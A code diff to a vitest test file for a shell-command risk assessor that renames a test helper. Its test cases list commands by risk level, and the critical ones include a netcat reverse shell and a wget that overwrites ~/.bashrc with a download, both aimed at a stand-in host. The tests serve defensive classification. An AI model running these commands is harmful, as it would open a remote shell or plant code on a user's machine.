@@ -2,7 +2,7 @@ import { describe, expect, it } from 'vitest';
 import { loadShellGrammars } from '../../../terminal/assessment/load-shell-grammars';
 import { createCommandAssessor } from '../../create-command-assessor';
 import { createShellReader } from '../../shell/create-shell-reader';
-import { madeUpSurroundings } from '../testing/fake-command-context';
+import { fakeCommandContext } from '../testing/fake-command-context';
 
 const assess = createCommandAssessor(createShellReader(await loadShellGrammars()));
 
@@ -27,7 +27,7 @@ describe('a command that talks to others', () => {
     'npm view x',
     'scp a host:b',
   ])('is medium: %s', (line) => {
-    expect(assess(line, madeUpSurroundings({}, disk)).level).toBe('medium');
+    expect(assess(line, fakeCommandContext({}, disk)).level).toBe('medium');
   });
 
   it.each([
@@ -48,7 +48,7 @@ describe('a command that talks to others', () => {
     'xdg-open https://x.example',
     'msedge.exe https://x.example',
   ])('is high: %s', (line) => {
-    expect(assess(line, madeUpSurroundings({}, disk)).level).toBe('high');
+    expect(assess(line, fakeCommandContext({}, disk)).level).toBe('high');
   });
 
   it.each([
@@ -59,11 +59,11 @@ describe('a command that talks to others', () => {
     'nc -e sh x.example 80',
     'wget -O ~/.bashrc https://x.example',
   ])('is critical: %s', (line) => {
-    expect(assess(line, madeUpSurroundings({}, disk)).level).toBe('critical');
+    expect(assess(line, fakeCommandContext({}, disk)).level).toBe('critical');
   });
 
   it('is said with the host', () => {
-    const reasonsFor = (line: string) => assess(line, madeUpSurroundings({}, disk)).reasons;
+    const reasonsFor = (line: string) => assess(line, fakeCommandContext({}, disk)).reasons;
     expect(reasonsFor('curl https://user@API.x.example:8080/a')).toEqual(['curl talks to api.x.example']);
     expect(reasonsFor('git clone git@git.x.example:a/b.git')).toEqual([
       'git clone copies a repository from elsewhere, at git.x.example',
